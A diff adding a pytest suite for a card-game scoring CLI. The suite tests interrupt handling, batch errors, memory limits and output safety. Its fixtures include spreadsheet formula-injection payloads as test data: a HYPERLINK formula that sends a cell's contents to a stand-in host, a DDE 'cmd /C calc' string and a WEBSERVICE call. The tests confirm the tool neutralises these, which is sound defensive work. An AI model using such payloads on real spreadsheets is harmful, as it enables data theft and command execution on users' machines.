@@ -1,0 +1,171 @@
+"""The attack suite, command-line side: Ctrl-C at any point, batches that one bad sheet cannot
+hide, a 10,000-sheet batch under a memory ceiling, and text that leaves scorekeeper inert
+(no formulas in CSV, no escape sequences on the terminal)."""
+import csv
+import io
+import json
+import os
+import resource
+import shutil
+import signal
+import subprocess
+import sys
+import time
+
+import pytest
+
+from conftest import EXAMPLES, run
+
+MESA1 = EXAMPLES / "king-final-nacional-mesa1.yaml"
+
+
+def scorekeeper_command() -> list[str]:
+    """The console script as a user runs it (its SIGINT handling lives in the script's entry)."""
+    script = shutil.which("scorekeeper")
+    if script is not None:
+        return [script]
+    return [sys.executable, "-c", "from scorekeeper.launch import main; main()"]
+
+
+def write(path, text: str) -> str:
+    path.write_text(text, encoding="utf-8")
+    return str(path)
+
+
+# --- Ctrl-C ------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("delay", [0.08, 0.12, 0.18, 0.3])
+def test_ctrl_c_during_start_up_or_work_exits_130_quietly(delay):
+    # From the moment scorekeeper's own code runs (the interpreter's start is Python's), an
+    # interrupt is exit 130 with nothing on stderr: no traceback, no "Aborted!".
+    args = [*scorekeeper_command(), "show", str(MESA1)]
+    process = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    time.sleep(delay)
+    process.send_signal(signal.SIGINT)
+    _out, err = process.communicate(timeout=30)
+    assert process.returncode in (130, 0), (process.returncode, err)  # 0: it finished before the signal
+    assert b"Traceback" not in err and b"Aborted" not in err, err
+
+
+def test_ctrl_c_at_the_prompt_exits_130_and_keeps_the_sheet(tmp_path):
+    sheet = tmp_path / "mesa.yaml"
+    text = "rules: king\nplayers: [Ana, Bruno, Carla, Duarte]\nhands:\n  - {hand: vazas, counts: [3, 2, 1, 7]}\n"
+    write(sheet, text)
+    process = subprocess.Popen([*scorekeeper_command(), "record", str(sheet)], stdin=subprocess.PIPE,
+                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    deadline = time.monotonic() + 20
+    seen = b""
+    while b"Hand 2" not in seen and time.monotonic() < deadline:  # the prompt for the next hand
+        seen += os.read(process.stdout.fileno(), 4096)
+    assert b"Hand 2" in seen
+    process.send_signal(signal.SIGINT)
+    _out, err = process.communicate(timeout=30)
+    assert process.returncode == 130
+    assert b"Traceback" not in err and b"Aborted" not in err, err
+    assert sheet.read_text(encoding="utf-8") == text
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["mesa.yaml"]  # no lock, no temporary file left
+
+
+# --- batches -----------------------------------------------------------------------------
+
+def test_one_unusable_sheet_does_not_hide_the_others(tmp_path):
+    broken = write(tmp_path / "broken.yaml", "rules: king\nplayers: [A, B, C, D]\ndate: 2026-02-30\nhands: []\n")
+    missing = str(tmp_path / "missing.yaml")
+    result = run("check", MESA1, broken, missing, EXAMPLES / "king-disputed-mesa3.yaml")
+    assert result.exit_code == 2
+    lines = result.output.splitlines()
+    assert f"{MESA1}: clean (king, complete; Ana +325, Bruno +15, Carla -285, Duarte -55)" in lines
+    assert any(line.startswith(f"{EXAMPLES / 'king-disputed-mesa3.yaml'}: 11 errors, 2 warnings") for line in lines)
+    assert f"Error: {missing}: no such file" in lines
+    assert any(line.startswith(f"Error: {broken}:3: ") for line in lines)
+    assert "internal error" not in result.output
+
+
+def test_json_of_a_batch_is_one_array_with_each_failure_in_place(tmp_path):
+    missing = str(tmp_path / "missing.yaml")
+    result = run("check", "--format", "json", MESA1, missing, EXAMPLES / "truco-furb-partida1.yaml")
+    assert result.exit_code == 2
+    data = json.loads(result.stdout)
+    assert [d["file"] for d in data] == [str(MESA1), missing, str(EXAMPLES / "truco-furb-partida1.yaml")]
+    assert data[1] == {"file": missing, "error": f"{missing}: no such file"}
+    assert data[0]["totals"] == {"Ana": 325, "Bruno": 15, "Carla": -285, "Duarte": -55}
+
+
+def test_json_of_an_unusable_sheet_alone_is_still_an_array(tmp_path):
+    missing = str(tmp_path / "missing.yaml")
+    result = run("check", "--format", "json", missing)
+    assert result.exit_code == 2
+    assert json.loads(result.stdout) == [{"file": missing, "error": f"{missing}: no such file"}]
+    assert result.stderr == f"Error: {missing}: no such file\n"
+
+
+def test_ten_thousand_sheets_are_checked_in_the_memory_of_one(tmp_path):
+    # Memory grows with one sheet, not with the batch: the JSON array is streamed.
+    text = MESA1.read_text(encoding="utf-8")
+    paths = []
+    for i in range(10_000):
+        path = tmp_path / f"s{i:05d}.yaml"
+        path.write_text(text, encoding="utf-8")
+        paths.append(str(path))
+    probe = ("import resource, subprocess, sys\n"
+             "done = subprocess.run(sys.argv[1:], stdout=subprocess.PIPE)\n"
+             "assert done.returncode == 0, done.returncode\n"
+             "assert done.stdout.count(b'\"valid\": true') == 10000\n"
+             "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n")
+    started = time.monotonic()
+    done = subprocess.run([sys.executable, "-c", probe, *scorekeeper_command(), "check", "--format", "json", *paths],
+                          capture_output=True, text=True, check=True)
+    peak_mib = int(done.stdout) / 1024  # ru_maxrss is in KiB on Linux
+    assert peak_mib < 80, f"checking 10,000 sheets peaked at {peak_mib:.0f} MiB"
+    assert time.monotonic() - started < 120
+
+
+# --- text that leaves scorekeeper is inert -----------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+cmd|' /C calc'!A0", "-Ana", "@SUM(A1)"]
+
+
+def hostile_sheet(tmp_path) -> str:
+    names = ", ".join(json.dumps(n) for n in HOSTILE)
+    return write(tmp_path / "hostile.yaml", f"rules: king\nplayers: [{names}]\nevent: '=WEBSERVICE(\"x\")'\n"
+                                             "hands:\n  - {hand: vazas, counts: [3, 2, 1, 7]}\n")
+
+
+def test_show_csv_is_inert_in_a_spreadsheet(tmp_path):
+    result = run("show", hostile_sheet(tmp_path), "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.output)))
+    assert rows[0] == ["#", "hand", "detail", *("'" + n for n in HOSTILE), "total", "control"]
+    assert rows[1] == ["1", "vazas", "", "-60", "-40", "-20", "-140", "-260", "-260"]  # numbers stay numbers
+
+
+def test_check_csv_is_inert_in_a_spreadsheet(tmp_path):
+    sheet = write(tmp_path / "s.yaml", "rules: king\nplayers: [A, B, C, D]\nhands:\n"
+                                       "  - {hand: vazas, counts: {A: 3, B: 2, C: 1, '=D': 7}}\n")
+    result = run("check", sheet, "--format", "csv")
+    assert result.exit_code == 1
+    rows = list(csv.reader(io.StringIO(result.output)))
+    assert [row[3] for row in rows[1:]] == ["'=D", "D"]
+
+
+def test_escape_sequences_in_names_are_shown_escaped(tmp_path):
+    sheet = write(tmp_path / "esc.yaml", 'rules: king\nplayers: ["A\\e[31mna", "B\\u2028r", "C\\x85a", "D\\x07u"]\n'
+                                         "hands:\n  - {hand: vazas, counts: [3, 2, 1, 7]}\n")
+    for args in (["show", sheet], ["check", sheet], ["show", sheet, "--format", "csv"],
+                 ["check", sheet, "--format", "table"], ["record", sheet, "copas", "1", "1", "1", "10"]):
+        result = run(*args)
+        assert result.exit_code in (0, 1), result.output
+        for raw in ("\x1b", "\u2028", "\x85", "\x07"):
+            assert raw not in result.output, (args, result.output)
+    shown = run("show", sheet).output
+    assert "A\\x1b[31mna" in shown
+
+
+def test_json_never_carries_raw_line_separators_or_c1_controls(tmp_path):
+    sheet = write(tmp_path / "esc.yaml", 'rules: king\nplayers: ["A\\u2028na", "B\\x85", "C\\x9b", "D\\x7f"]\n'
+                                         "hands: []\n")
+    result = run("check", sheet, "--format", "json")
+    assert result.exit_code == 0
+    for raw in ("\u2028", "\x85", "\x9b", "\x7f"):
+        assert raw not in result.output
+    assert json.loads(result.output)[0]["players"] == ["A\u2028na", "B\x85", "C\x9b", "D\x7f"]
